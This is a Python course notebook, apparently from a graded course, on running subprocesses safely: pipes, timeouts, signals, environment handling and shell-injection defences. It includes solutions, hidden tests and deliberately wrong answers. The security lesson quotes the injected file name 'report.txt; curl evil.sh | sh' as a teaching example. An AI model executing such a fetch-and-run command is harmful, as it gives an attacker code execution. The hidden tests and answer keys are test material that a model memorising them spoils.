@@ -1,0 +1,1062 @@
+# ---
+# jupyter:
+#   jupytext:
+#     text_representation:
+#       extension: .py
+#       format_name: percent
+# ---
+
+# %% [markdown] course={"kind": "intro"}
+# **By the end of this section** you can run other programs from Python and read their output and exit
+# codes, chain them with pipes without deadlocks, stop them on time (children and grandchildren), keep
+# untrusted text out of shell commands, pass them the environment they need, and shut processes down gracefully.
+
+# %% course={"kind": "setup", "id": "process-helpers"}
+# Helpers the demos and tests use. Every child process in this notebook is the Python that runs
+# the notebook (`PY`), so the examples work wherever the notebook does, with no other programs
+# installed. `ProcessWatch` records every process started inside its `with` block and, when the
+# block ends, kills and reaps whatever is still there: a test that fails leaves nothing running.
+import os
+import select
+import shlex
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+
+from typing import NamedTuple
+
+PY = sys.executable
+
+
+class Captured(NamedTuple):
+    """What a finished command left behind (the exercises return it)."""
+
+    returncode: int
+    stdout: str
+    stderr: str
+
+
+def py(code: str, *args: str) -> list[str]:
+    """The argument list that runs `code` in a fresh Python process, with `args` in its sys.argv[1:]."""
+    return [PY, "-c", code, *args]
+
+
+class ProcessWatch:
+    """`with ProcessWatch() as watch:` records each subprocess.Popen started in the block."""
+
+    def __init__(self) -> None:
+        self.started: list[subprocess.Popen] = []
+
+    def __enter__(self) -> "ProcessWatch":
+        original = self._original = subprocess.Popen.__init__
+        started = self.started
+
+        def recording_init(proc, *args, **kwargs):
+            original(proc, *args, **kwargs)
+            started.append(proc)
+
+        subprocess.Popen.__init__ = recording_init
+        return self
+
+    def unreaped(self) -> list:
+        """The argument lists of watched processes nobody has waited for (still running, or zombies)."""
+        return [proc.args for proc in self.started if proc.returncode is None]
+
+    def kill_all(self) -> None:
+        for proc in self.started:
+            if proc.returncode is None:
+                try:
+                    proc.kill()  # a zombie ignores it; wait() below reaps it
+                except OSError:
+                    pass
+
+    def __exit__(self, *exc) -> None:
+        subprocess.Popen.__init__ = self._original
+        self.kill_all()
+        for proc in self.started:
+            proc.wait()
+            for stream in (proc.stdin, proc.stdout, proc.stderr):
+                if stream is not None:
+                    stream.close()
+
+    def call(self, fn, *args, limit: float = 3.0, **kwargs):
+        """fn(*args, **kwargs), but if it has not returned after `limit` seconds it hangs: kill every
+        watched process (that unblocks it) and fail. A hang detector, not a speed test: the answers
+        that pass take a fraction of a second."""
+        outcome: dict = {}
+
+        def target() -> None:
+            try:
+                outcome["value"] = fn(*args, **kwargs)
+            except BaseException as err:  # handed to the caller below
+                outcome["error"] = err
+
+        worker = threading.Thread(target=target, daemon=True)
+        worker.start()
+        worker.join(limit)
+        if worker.is_alive():
+            self.kill_all()
+            worker.join(limit)
+            raise AssertionError(
+                f"{fn.__name__}() was still running after {limit} s, waiting for a process that "
+                "could not finish (a pipe nobody reads, a pipe end left open, or a wait() with no timeout)"
+            )
+        if "error" in outcome:
+            raise outcome["error"]
+        return outcome["value"]
+
+
+class Grandchild:
+    """A FIFO in a temp folder that a grandchild process holds open while it lives: `gone()` waits
+    until every process holding it has exited. `with Grandchild() as g: ... g.path ... g.gone()`."""
+
+    def __enter__(self) -> "Grandchild":
+        self._tmp = tempfile.TemporaryDirectory()
+        self.path = os.path.join(self._tmp.name, "alive")
+        os.mkfifo(self.path)
+        self._fd = os.open(self.path, os.O_RDONLY | os.O_NONBLOCK)
+        self.pids: list[int] = []
+        self._text = b""
+        return self
+
+    def gone(self, within: float = 3.0) -> bool:
+        """True once the FIFO reports end-of-file (nobody holds it open); False after `within` seconds."""
+        while select.select([self._fd], [], [], within)[0]:
+            chunk = os.read(self._fd, 4096)
+            if not chunk:
+                return True
+            self._text += chunk
+            self.pids = [int(word) for word in self._text.split()]
+        return False
+
+    def __exit__(self, *exc) -> None:
+        self.gone(0)
+        for pid in self.pids:  # still holding the FIFO after the test: stop it
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+        os.close(self._fd)
+        self._tmp.cleanup()
+
+
+# %% course={"kind": "setup", "id": "child-scripts"}
+# Small programs the tests run as child processes (each is Python source for `py(...)`).
+SORT_LINES = "import sys; sys.stdout.writelines(sorted(sys.stdin))"
+UPPER = "import sys; sys.stdout.write(sys.stdin.read().upper())"
+COUNT_LINES = "import sys; print(sum(1 for _ in sys.stdin))"
+FIRST_LINE = "import sys; print(sys.stdin.readline(), end='')"  # like `head -n 1`
+SHOW_ARGS = "import sys; print(sys.argv[1:])"
+SHOW_ENV = "import json, os, sys; print(json.dumps({k: os.environ.get(k) for k in sys.argv[1:]}))"
+# Writes 4 MiB (far more than a pipe holds) and then sits for 5 s. Once its reader has gone
+# it stops quietly, like `yes | head` does.
+PRODUCER = """
+import os, sys, time
+line = b"y" * 1023 + b"\\n"
+try:
+    for _ in range(64):
+        os.write(1, line * 64)
+except BrokenPipeError:
+    sys.exit(0)
+time.sleep(5)
+"""
+# Prints 'step 1' at once, then needs 5 s more.
+SLOW = "import time; print('step 1', flush=True); time.sleep(5); print('step 2')"
+# Forks a grandchild that holds the FIFO named in argv[1] (and the same stdout) for 5 s.
+FORKING = """
+import os, sys, time
+print('parent up', flush=True)
+if os.fork() == 0:
+    fd = os.open(sys.argv[1], os.O_WRONLY)
+    os.write(fd, f"{os.getpid()}\\n".encode())
+    time.sleep(5)
+    os._exit(0)
+time.sleep(5)
+"""
+# Each handles SIGTERM differently and prints 'ready' once its handler is installed.
+POLITE = """
+import signal, sys, time
+def on_term(signum, frame):
+    print("cleaning up", flush=True)
+    sys.exit(0)
+signal.signal(signal.SIGTERM, on_term)
+print("ready", flush=True)
+time.sleep(10)
+"""
+SLOW_CLEANUP = """
+import signal, sys, time
+def on_term(signum, frame):
+    time.sleep(0.3)  # flushing buffers, closing connections...
+    print("cleaned up", flush=True)
+    sys.exit(0)
+signal.signal(signal.SIGTERM, on_term)
+print("ready", flush=True)
+time.sleep(10)
+"""
+STUBBORN = """
+import signal, time
+signal.signal(signal.SIGTERM, lambda signum, frame: print("ignoring TERM", flush=True))
+print("ready", flush=True)
+for _ in range(100):
+    time.sleep(0.1)
+"""
+# Counts its runs in the file argv[1]; fails (exit 1) until run number argv[2], then prints 'ok'.
+# With argv[3] == 'slow', the failing runs hang for 5 s instead of exiting.
+FLAKY = """
+import pathlib, sys, time
+counter = pathlib.Path(sys.argv[1])
+runs = int(counter.read_text() or 0) + 1 if counter.exists() else 1
+counter.write_text(str(runs))
+if runs < int(sys.argv[2]):
+    print(f"run {runs} failed", file=sys.stderr, flush=True)
+    if sys.argv[3:] == ["slow"]:
+        print("started", flush=True)
+        time.sleep(5)
+    sys.exit(1)
+print(f"ok on run {runs}")
+"""
+
+
+def chatops_commands() -> dict[str, list[str]]:
+    """A fresh allow-list for the chat-ops exercise: `greet` echoes its arguments, `fail` exits 7."""
+    return {
+        "greet": py("import sys; print('hello', *sys.argv[1:])"),
+        "args": py(SHOW_ARGS),
+        "fail": py("import sys; print('broken', file=sys.stderr); sys.exit(7)"),
+    }
+
+
+# %% [markdown] course={"kind": "lesson", "id": "run", "covers": ["c-subprocess-module", "c-run-modern-simple-interface", "c-return-codes-and-error-handling", "c-capturing-output-capture-output-true"]}
+# ### `subprocess.run`: start a program, wait, look at what happened
+#
+# Automation is mostly other programs: `git`, `terraform`, `kubectl`, `nvidia-smi`, a training script.
+# The `subprocess` module starts them. Its everyday entry point is `subprocess.run(args, ...)`: it starts
+# the program, waits until it ends, and hands back a `CompletedProcess` with the `args`, the
+# `returncode` and, if you asked for them, `stdout` and `stderr`.
+#
+# - **args as a list**: `["git", "log", "-1"]`. Each element arrives in the program as one
+#   argument, whatever spaces or quotes it contains. No shell is involved.
+# - **`capture_output=True`** collects stdout and stderr instead of letting them go to the
+#   notebook's terminal; **`text=True`** decodes them to `str` (otherwise you get `bytes`).
+# - **the return code** is the program's verdict: `0` means success, anything else failure. A
+#   program killed by a signal has a *negative* code on POSIX: `-9` is SIGKILL.
+# - **`check=True`** turns a non-zero code into a `CalledProcessError` carrying `returncode`,
+#   `cmd`, `stdout` and `stderr`.
+#
+# The one thing people get wrong: **without `check=True`, a failing program does not raise.** A
+# script that ignores `returncode` happily carries on after `terraform plan` failed. Either check the
+# code yourself or pass `check=True`. (A program that does not exist is different: that raises
+# `FileNotFoundError` before anything runs.)
+
+# %% course={"kind": "demo"}
+noisy = py("import sys; print('to stdout'); print('to stderr', file=sys.stderr); sys.exit(3)")
+done = subprocess.run(noisy, capture_output=True, text=True)
+print("returncode:", done.returncode)
+print("stdout:    ", repr(done.stdout))
+print("stderr:    ", repr(done.stderr))
+
+try:
+    subprocess.run(noisy, capture_output=True, text=True, check=True)
+except subprocess.CalledProcessError as err:
+    print("check=True raised:", type(err).__name__, "with returncode", err.returncode, "and stderr", repr(err.stderr))
+
+try:
+    subprocess.run(["no-such-program-here"])
+except FileNotFoundError as err:
+    print("a missing program:", type(err).__name__, "-", err.strerror)
+
+# %% [markdown] course={"kind": "lesson", "id": "popen-pipes", "covers": ["c-popen-low-level-flexible", "c-input-output-redirection", "c-pipes-between-processes"]}
+# ### Redirection, `Popen` and pipes
+#
+# Where a child's three standard streams go is up to you, through `stdin=`, `stdout=` and
+# `stderr=`: an open file, `subprocess.PIPE` (a pipe Python reads or writes), `subprocess.DEVNULL`
+# (nowhere), or, for stderr, `subprocess.STDOUT` (into the same place as stdout, like `2>&1`).
+# `input="text"` writes to the child's stdin for you.
+#
+# `run()` is built on **`Popen`**, the low-level class: `Popen(args, ...)` *starts* the program and
+# returns at once, while it runs. You then talk to it (`proc.stdin`, `proc.stdout`), ask
+# `proc.poll()` (its code, or `None` while it runs), `proc.wait()` for it, or send it signals. Use
+# `Popen` when `run()` is not enough: several programs at once, a pipeline, streaming output line by
+# line, stopping a program yourself.
+#
+# A **pipe** between two processes is what the shell's `|` builds: stage one's stdout becomes
+# stage two's stdin, and both run at the same time.
+
+# %% course={"kind": "demo"}
+with tempfile.TemporaryDirectory() as tmp:
+    log_path = os.path.join(tmp, "build.log")
+    with open(log_path, "w") as log:  # stdout and stderr both into one file, like `> build.log 2>&1`
+        subprocess.run(py("import sys; print('compiling'); print('warning: slow', file=sys.stderr)"),
+                       stdout=log, stderr=subprocess.STDOUT)
+    with open(log_path) as log:
+        print("build.log holds:", log.read().splitlines())
+
+shouted = subprocess.run(py(UPPER), input="quiet please\n", capture_output=True, text=True)
+print("input= fed stdin:", repr(shouted.stdout))
+
+# producer | sorter, with Popen: both run at once, connected by a pipe
+producer = subprocess.Popen(py("print('pear'); print('apple'); print('fig')"), stdout=subprocess.PIPE)
+sorter = subprocess.Popen(py(SORT_LINES), stdin=producer.stdout, stdout=subprocess.PIPE, text=True)
+producer.stdout.close()  # our copy of the read end: only the sorter should hold it now
+print("sorted:", sorter.communicate()[0].split(), "| codes:", producer.wait(), sorter.returncode)
+
+# %% [markdown] course={"kind": "text"}
+# **The pipe deadlock.** A pipe holds a limited amount (64 KiB on Linux). A child writing more than
+# that stops, blocked, until someone reads. If the parent meanwhile sits in `proc.wait()`, each
+# waits for the other for ever. `communicate()` reads every pipe while waiting, so it cannot
+# deadlock; use it (or `run()`, which uses it) whenever you capture output. Below, the `wait()`
+# has a timeout only so that the demo does not hang:
+
+# %% course={"kind": "demo"}
+chatty = subprocess.Popen(py("import sys; sys.stdout.write('x' * 4_000_000)"), stdout=subprocess.PIPE)
+try:
+    chatty.wait(timeout=0.3)  # the child is stuck in write(), we are stuck in wait()
+except subprocess.TimeoutExpired:
+    print("wait() timed out: the child is blocked on a full pipe")
+out, _ = chatty.communicate()  # reads while waiting: the child can finish
+print("communicate() got", len(out), "bytes; returncode", chatty.returncode)
+
+# %% [markdown] course={"kind": "lesson", "id": "shell-timeouts", "covers": ["c-shell-vs-non-shell-execution", "c-timeout-handling"]}
+# ### `shell=True`, and timeouts
+#
+# With `shell=True` the argument is **one string** handed to `/bin/sh -c` on POSIX. The shell then
+# does what it does for a terminal: splits words at spaces, expands `$VARS`, `~` and `*.txt`, runs
+# `|`, `&&`, `>`. That is handy for a fixed one-liner, and it is why a string with a space or a `$`
+# in the wrong place means something else than you meant (the next lesson shows how bad that gets).
+# Without a shell (a list, the default) nothing is expanded: `*.txt` is a file name with a star in it.
+#
+# **Timeouts.** `run(..., timeout=s)` and `communicate(timeout=s)` raise `TimeoutExpired` when
+# time is up. `run()` kills the child first; `communicate()` does **not**: you must kill and then
+# call `communicate()` again to collect the rest and reap the child. Two surprises:
+#
+# - `TimeoutExpired.stdout` is **bytes** (or `None` if nothing was written), even with `text=True`
+#   (documented, and the same in 3.11 to 3.13);
+# - killing the child does not kill *its* children. A grandchild that still holds the output pipe
+#   keeps `communicate()` waiting. Start the child with `start_new_session=True` (it leads a new
+#   process group) and kill the whole group with `os.killpg(proc.pid, signal.SIGKILL)`.
+
+# %% course={"kind": "demo"}
+with tempfile.TemporaryDirectory() as tmp:
+    for name in ("a.txt", "b.txt", "c.csv"):
+        open(os.path.join(tmp, name), "w").close()
+    with_shell = subprocess.run(f"{PY} -c 'import sys; print(sys.argv[1:])' *.txt", shell=True,
+                                cwd=tmp, capture_output=True, text=True)
+    without = subprocess.run(py(SHOW_ARGS, "*.txt"), cwd=tmp, capture_output=True, text=True)
+print("shell=True, the shell expands *.txt:", with_shell.stdout.strip())
+print("a list, no shell:                   ", without.stdout.strip())
+
+try:
+    subprocess.run(py(SLOW), capture_output=True, text=True, timeout=0.5)
+except subprocess.TimeoutExpired as err:
+    print(f"TimeoutExpired after {err.timeout} s; partial stdout: {err.stdout!r} ({type(err.stdout).__name__})")
+
+# %% [markdown] course={"kind": "lesson", "id": "security", "covers": ["c-security-considerations", "c-shell-injection-risks", "c-shlex-quote-for-escaping", "c-avoiding-shell-true"]}
+# ### Shell injection, `shlex.quote()`, and avoiding `shell=True`
+#
+# **Shell injection** happens when text you do not control (a file name from an upload, a branch
+# name from a webhook, a form field) is pasted into a command string run by a shell. The shell
+# cannot tell your command from theirs: a "file name" of `report.txt; curl evil.sh | sh` is two
+# commands. On a CI runner or a deploy host that is remote code execution with your credentials.
+#
+# The defences, best first:
+#
+# 1. **Avoid `shell=True`**: pass a list. There is no shell to interpret `;`, `$()` or backticks.
+#    `shlex.split("git commit -m 'a message'")` turns a command line into that list the way a POSIX shell would.
+# 2. If you truly need a shell (a pipeline, a remote `ssh host '...'` command), **quote every
+#    untrusted piece with `shlex.quote()`**, which wraps it in single quotes so the shell reads it as
+#    one literal word (`shlex.join(list)` quotes and joins a whole argument list).
+# 3. **Allow-list** what may run at all, rather than trying to spot bad characters.
+#
+# What people get wrong: quoting by hand, `f"'{name}'"`. One `'` inside the name ends the quote and
+# the rest is code again. `shlex.quote` handles that case (and the empty string, which must stay an argument).
+# Also `shlex.quote` is for POSIX shells only, not for Windows `cmd.exe`.
+
+# %% course={"kind": "demo"}
+upload_name = "report.txt; echo INJECTED: this ran as a command"
+show = f"{shlex.quote(PY)} -c 'import sys; print(sys.argv[1:])'"
+
+unsafe = subprocess.run(f"{show} {upload_name}", shell=True, capture_output=True, text=True)
+print("pasted in:     ", unsafe.stdout.splitlines())
+safe = subprocess.run(f"{show} {shlex.quote(upload_name)}", shell=True, capture_output=True, text=True)
+print("shlex.quote:   ", safe.stdout.splitlines())
+no_shell = subprocess.run(py(SHOW_ARGS, upload_name), capture_output=True, text=True)
+print("a list, no shell:", no_shell.stdout.splitlines())
+print("quote of a tricky name:", shlex.quote("it's $HOME"), "| of an empty string:", shlex.quote(""))
+print("shlex.split:", shlex.split("deploy --msg 'fix: quotes' --dry-run"))
+
+# %% [markdown] course={"kind": "lesson", "id": "os-process", "covers": ["c-os-process-functions", "c-os-system-avoid", "c-os-exec-family", "c-os-fork-unix", "c-os-getpid-os-getppid"]}
+# ### The `os` process functions underneath
+#
+# `subprocess` is built on the operating system's own calls, which `os` exposes directly:
+#
+# | function | what it does | when you meet it |
+# |---|---|---|
+# | `os.getpid()`, `os.getppid()` | this process's id, and its parent's | log lines, pid files, "who started me?" |
+# | `os.fork()` (Unix only) | clones the running process; returns `0` in the child, the child's pid in the parent | pre-fork servers (gunicorn), daemons |
+# | `os.exec*()` (`execv`, `execvp`, `execve`...) | **replaces** the running program by another, same pid; never returns | wrapper scripts, container entry points (`exec "$@"`) |
+# | `os.waitpid(pid, 0)` | waits for a child and collects its status | after a `fork()` |
+# | `os.system("cmd")` | runs a string through the shell; returns an encoded *wait status* | legacy scripts: **avoid** |
+#
+# `fork` + `exec` + `waitpid` is exactly what `Popen` does for you (on Linux it may use the faster
+# `posix_spawn`/`vfork`). Why avoid `os.system`: it always uses a shell (injection again), you cannot
+# capture its output (in Jupyter it goes to the kernel's terminal, not the cell), and its return value is
+# the wait status, not the exit code: exit 3 comes back as `768` on POSIX; decode it with
+# `os.waitstatus_to_exitcode` (Python 3.9+). Never `fork()` inside a Jupyter kernel or any program
+# with threads: only the calling thread is copied (Python 3.12+ warns about it). The fork demo below runs
+# inside a fresh child Python.
+
+# %% course={"kind": "demo"}
+me = subprocess.run(py("import os; print(os.getpid(), os.getppid())"), capture_output=True, text=True)
+child_pid, its_parent = map(int, me.stdout.split())
+print("the child's parent is this notebook's kernel:", its_parent == os.getpid())
+
+status = os.system(f"{shlex.quote(PY)} -c 'raise SystemExit(3)'")
+print("os.system returned", status, "-> exit code", os.waitstatus_to_exitcode(status))
+
+# %% course={"kind": "demo"}
+FORK_AND_EXEC = """
+import os, sys
+pid = os.fork()
+if pid == 0:  # the child: become another program (same pid)
+    print(f"child {os.getpid()} about to exec", flush=True)
+    os.execv(sys.executable, [sys.executable, "-c", "import os; print(f'exec-ed program runs as {os.getpid()}')"])
+_, status = os.waitpid(pid, 0)  # the parent: reap the child
+print(f"parent {os.getpid()}: child {pid} ended with exit code {os.waitstatus_to_exitcode(status)}")
+"""
+print(subprocess.run(py(FORK_AND_EXEC), capture_output=True, text=True, check=True).stdout)
+
+# %% [markdown] course={"kind": "lesson", "id": "environment", "covers": ["c-process-environment", "c-env-parameter", "c-inheriting-environment", "c-modifying-environment"]}
+# ### The environment a child gets
+#
+# Every process has its own copy of the environment variables. A child **inherits** a copy of its
+# parent's (`os.environ`) by default, so setting `os.environ["X"]` affects every child started
+# afterwards, and nothing a child changes ever comes back to the parent.
+#
+# The **`env=` parameter** gives the child exactly the dict you pass, **instead of** ours. That is
+# the mistake people make: `env={"AWS_PROFILE": "prod"}` also throws away `PATH`, `HOME`, `LANG`...,
+# and the tool then cannot find its own helpers. To change a few variables, copy and modify:
+# `env={**os.environ, "AWS_PROFILE": "prod"}`; to remove one, copy and `pop`. Values must be `str`
+# (an `int` raises `TypeError`). Passing secrets through the environment is common practice, but
+# keep them out of command lines: other users can read those in `ps`.
+
+# %% course={"kind": "demo"}
+os.environ["COURSE_DEMO_STAGE"] = "dev"  # ours: every child started from now on inherits it
+try:
+    keys = ("COURSE_DEMO_STAGE", "COURSE_DEMO_REGION", "PATH")
+    for label, env in [
+        ("inherited", None),
+        ("copy + change", {**os.environ, "COURSE_DEMO_REGION": "eu-west-1"}),
+        ("env= replaces all", {"COURSE_DEMO_REGION": "eu-west-1"}),
+    ]:
+        seen = subprocess.run(py(SHOW_ENV, *keys), env=env, capture_output=True, text=True).stdout
+        print(f"{label:18}", {k: ("<set>" if k == "PATH" and v else v) for k, v in __import__("json").loads(seen).items()})
+    try:
+        subprocess.run(py("pass"), env={"WORKERS": 4})
+    except TypeError as err:
+        print("an int value:", err)
+finally:
+    del os.environ["COURSE_DEMO_STAGE"]
+
+# %% [markdown] course={"kind": "lesson", "id": "signals", "covers": ["c-signal-handling", "c-signal-module", "c-common-signals-sigint-sigterm-sigkill", "c-signal-handlers", "c-graceful-shutdown"]}
+# ### Signals and graceful shutdown
+#
+# A **signal** is a small asynchronous message from the kernel to a process. The three that matter
+# most in operations:
+#
+# | signal | sent by | default | can the program catch it? |
+# |---|---|---|---|
+# | `SIGINT` (2) | Ctrl-C in a terminal | terminate; Python turns it into `KeyboardInterrupt` | yes |
+# | `SIGTERM` (15) | `kill pid`, `docker stop`, Kubernetes before killing a pod, systemd | terminate | yes: this is "please shut down" |
+# | `SIGKILL` (9) | `kill -9`, Docker/Kubernetes after the grace period, the OOM killer | terminate | **no**: no handler, no cleanup |
+#
+# The **`signal` module** installs a **handler**: `signal.signal(signal.SIGTERM, on_term)` makes
+# Python call `on_term(signum, frame)` in the main thread when SIGTERM arrives. A **graceful shutdown**
+# is: on SIGTERM, stop taking new work, finish or checkpoint the current job, flush and close, exit 0.
+# The side that stops a process does the mirror image: send SIGTERM, wait a grace period, and only
+# then SIGKILL (Kubernetes does exactly this, 30 s by default). `Popen.terminate()` sends SIGTERM and
+# `Popen.kill()` sends SIGKILL on POSIX. The usual mistake: a handler that does real work
+# (I/O, locks) *inside* the handler; set a flag and let the main loop finish the job instead. Handlers can only be
+# installed from the main thread, and Windows has no SIGKILL or real SIGTERM delivery.
+#
+# The demo waits for each child to say `ready` before signalling it: a handshake, not a sleep, so the
+# handler is certainly installed.
+
+# %% course={"kind": "demo"}
+for script, name in ((POLITE, "polite"), (STUBBORN, "stubborn")):
+    child = subprocess.Popen(py(script), stdout=subprocess.PIPE, text=True)
+    assert child.stdout.readline() == "ready\n"  # handshake: its handler is in place
+    child.terminate()  # SIGTERM: please stop
+    try:
+        child.wait(timeout=0.5)  # the grace period
+    except subprocess.TimeoutExpired:
+        child.kill()  # SIGKILL: cannot be caught
+        child.wait()
+    print(f"{name:8} said {child.stdout.read().splitlines()} and ended with returncode {child.returncode}")
+    child.stdout.close()
+
+try:
+    signal.signal(signal.SIGKILL, lambda signum, frame: None)
+except OSError as err:
+    print("a handler for SIGKILL:", err)
+
+# %% [markdown] course={"kind": "exercise", "id": "run-and-capture", "item": "x-run-a-shell-command-and-capture-output"}
+# ### Run a command and capture its output
+#
+# Write `run_and_capture(args, input_text="")` that runs the program `args` (a list: program and
+# arguments) **without a shell**, feeds it `input_text` on stdin, waits for it, and returns a
+# `Captured(returncode, stdout, stderr)` with both outputs as `str`, **separately**, and
+# **exactly** as written (no stripping). A non-zero return code is *returned*, not raised: the caller
+# decides. A program that does not exist may raise `FileNotFoundError`.
+#
+# ```python
+# run_and_capture(py("import sys; print('hi'); sys.exit(2)"))
+# # Captured(returncode=2, stdout='hi\n', stderr='')
+# ```
+
+# %% [markdown] course={"kind": "hint"}
+# One call to `subprocess.run` does all of it; look at `input=`, `capture_output=` and `text=`.
+
+# %% [markdown] course={"kind": "hint"}
+# Do not pass `check=True` (it raises on a non-zero code) and do not join the list into a string.
+
+# %% course={"kind": "solution"}
+def run_and_capture(args: list[str], input_text: str = "") -> Captured:
+    ### BEGIN SOLUTION
+    done = subprocess.run(args, input=input_text, capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+    ### END SOLUTION
+
+# %% course={"kind": "test", "points": 1}
+with ProcessWatch() as watch:
+    got = run_and_capture(py("print('hello')"))
+    assert got == Captured(0, "hello\n", ""), f"expected Captured(0, 'hello\\n', ''), got {got!r}"
+    assert type(got) is Captured and type(got.stdout) is str, "return a Captured with str outputs (text=True)"
+    assert watch.unreaped() == [], "wait for the program to finish"
+
+# %% course={"kind": "test", "points": 1}
+got = run_and_capture(py("import sys; print('out'); print('oops', file=sys.stderr); sys.exit(3)"))
+assert got == Captured(3, "out\n", "oops\n"), f"stdout and stderr apart, code 3 returned (not raised), got {got!r}"
+
+# %% course={"kind": "test", "points": 2}
+nasty = ["two words", "$HOME", "*", "; echo injected", "", "it's"]
+got = run_and_capture(py(SHOW_ARGS, *nasty))
+assert got.stdout == f"{nasty!r}\n", f"each list element must arrive as one argument, untouched; got {got.stdout!r}"
+### BEGIN HIDDEN TESTS
+got = run_and_capture(py("import sys; sys.stdout.write('  padded  \\n\\n')"))
+assert got.stdout == "  padded  \n\n", f"no stripping: {got.stdout!r}"
+got = run_and_capture(py("import os, signal; os.kill(os.getpid(), signal.SIGKILL)"))
+assert got.returncode == -signal.SIGKILL and got.stdout == "" and got.stderr == ""
+assert run_and_capture(py("raise SystemExit(255)")).returncode == 255
+### END HIDDEN TESTS
+
+# %% course={"kind": "test", "points": 1}
+echo_len = py("import sys; data = sys.stdin.read(); print(len(data), data.upper(), end='')")
+got = run_and_capture(echo_len, "héllo wörld\n")
+assert got == Captured(0, "12 HÉLLO WÖRLD\n", ""), f"input_text goes to the child's stdin; got {got!r}"
+### BEGIN HIDDEN TESTS
+assert run_and_capture(echo_len) == Captured(0, "0 ", ""), "the default input is empty"
+try:
+    run_and_capture(["course-no-such-program"])
+except FileNotFoundError:
+    pass
+else:
+    raise AssertionError("a missing program cannot return a Captured")
+### END HIDDEN TESTS
+
+# %% course={"kind": "wrong", "id": "joined-into-shell"}
+def run_and_capture(args, input_text=""):
+    done = subprocess.run(" ".join(args), shell=True, input=input_text, capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+
+# %% course={"kind": "wrong", "id": "stderr-merged"}
+def run_and_capture(args, input_text=""):
+    done = subprocess.run(args, input=input_text, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    return Captured(done.returncode, done.stdout, "")
+
+# %% course={"kind": "wrong", "id": "check-true"}
+def run_and_capture(args, input_text=""):
+    done = subprocess.run(args, input=input_text, capture_output=True, text=True, check=True)
+    return Captured(done.returncode, done.stdout, done.stderr)
+
+# %% course={"kind": "wrong", "id": "stripped"}
+def run_and_capture(args, input_text=""):
+    done = subprocess.run(args, input=input_text, capture_output=True, text=True)
+    return Captured(done.returncode, done.stdout.strip(), done.stderr.strip())
+
+# %% [markdown] course={"kind": "exercise", "id": "explain-exit"}
+# ### What does this return code mean?
+#
+# A job scheduler shows a one-line reason for every finished command. Write `explain_exit(code)`:
+#
+# | code | answer |
+# |---|---|
+# | `0` | `"ok"` |
+# | negative, `-n` (Python's way of saying "killed by signal n") | `"killed by SIGTERM"`, using the signal's name from `signal.Signals`, or `"killed by signal n"` if the number has no name |
+# | positive, and `code - 128` is a signal with a name (shells report death by signal *n* as `128 + n`) | `"exit 143 (shell code for SIGTERM)"` |
+# | any other positive code | `"exit 2"` |
+#
+# Signal numbers differ between systems (SIGUSR1 is 10 on Linux, 30 on macOS): take names from the
+# `signal` module, never from a table of your own.
+#
+# ```python
+# explain_exit(-signal.SIGKILL)   # 'killed by SIGKILL'
+# explain_exit(137)               # 'exit 137 (shell code for SIGKILL)'
+# ```
+
+# %% [markdown] course={"kind": "hint"}
+# `signal.Signals(15).name` is `'SIGTERM'`; `signal.Signals(n)` raises `ValueError` when `n` is not a signal.
+
+# %% [markdown] course={"kind": "hint"}
+# A small helper `name_of(n)` returning the name or `None` keeps the main function short. For codes
+# from 1 to 128, `code - 128` is zero or negative: no signal has such a number.
+
+# %% course={"kind": "solution"}
+def explain_exit(code: int) -> str:
+    ### BEGIN SOLUTION
+    def name_of(number: int) -> str | None:
+        try:
+            return signal.Signals(number).name
+        except ValueError:
+            return None
+
+    if code < 0:
+        return f"killed by {name_of(-code) or f'signal {-code}'}"
+    if code == 0:
+        return "ok"
+    shell_signal = name_of(code - 128)
+    if shell_signal:
+        return f"exit {code} (shell code for {shell_signal})"
+    return f"exit {code}"
+    ### END SOLUTION
+
+# %% course={"kind": "test", "points": 1}
+assert explain_exit(0) == "ok", f"0 means success, got {explain_exit(0)!r}"
+assert explain_exit(1) == "exit 1" and explain_exit(2) == "exit 2", f"plain failures: {explain_exit(1)!r}"
+assert explain_exit(-signal.SIGTERM) == "killed by SIGTERM", f"got {explain_exit(-signal.SIGTERM)!r}"
+
+# %% course={"kind": "test", "points": 1}
+assert explain_exit(128 + signal.SIGKILL) == "exit 137 (shell code for SIGKILL)", f"got {explain_exit(137)!r}"
+assert explain_exit(128) == "exit 128", f"128 itself is no signal: got {explain_exit(128)!r}"
+assert explain_exit(128 + signal.SIGHUP) == "exit 129 (shell code for SIGHUP)", f"129 is SIGHUP: {explain_exit(129)!r}"
+### BEGIN HIDDEN TESTS
+assert explain_exit(127) == "exit 127" and explain_exit(255) == "exit 255" and explain_exit(228) == "exit 228"
+assert explain_exit(-signal.SIGHUP) == "killed by SIGHUP" and explain_exit(-signal.SIGINT) == "killed by SIGINT"
+assert explain_exit(-99) == "killed by signal 99", f"got {explain_exit(-99)!r}"
+assert type(explain_exit(-9)) is str
+### END HIDDEN TESTS
+
+# %% course={"kind": "test", "points": 2}
+suicide = "import os, signal; os.kill(os.getpid(), signal.SIGTERM)"
+direct = subprocess.run(py(suicide))
+assert explain_exit(direct.returncode) == "killed by SIGTERM", f"a real SIGTERM death: {direct.returncode}"
+via_shell = subprocess.run(["sh", "-c", f"{shlex.join(py(suicide))}; exit $?"], stderr=subprocess.DEVNULL)
+assert explain_exit(via_shell.returncode) == "exit 143 (shell code for SIGTERM)", f"through sh: {via_shell.returncode}"
+assert explain_exit(subprocess.run(py("raise SystemExit(4)")).returncode) == "exit 4"
+
+# %% course={"kind": "wrong", "id": "abs-of-negative"}
+def explain_exit(code):
+    if code == 0:
+        return "ok"
+    if code > 128:
+        return f"exit {code} (shell code for {signal.Signals(code - 128).name})"
+    return f"exit {abs(code)}"  # a negative code is not an exit code
+
+# %% course={"kind": "wrong", "id": "own-signal-table"}
+def explain_exit(code):
+    names = {9: "SIGKILL", 15: "SIGTERM", 2: "SIGINT"}  # a table of our own: incomplete, and Linux-only
+    if code == 0:
+        return "ok"
+    if code < 0:
+        return f"killed by {names.get(-code, f'signal {-code}')}"
+    if code - 128 in names:
+        return f"exit {code} (shell code for {names[code - 128]})"
+    return f"exit {code}"
+
+# %% course={"kind": "wrong", "id": "from-128-on"}
+def explain_exit(code):
+    if code == 0:
+        return "ok"
+    if code < 0:
+        return f"killed by {signal.Signals(-code).name}"  # no name for -99: ValueError
+    if code >= 128:
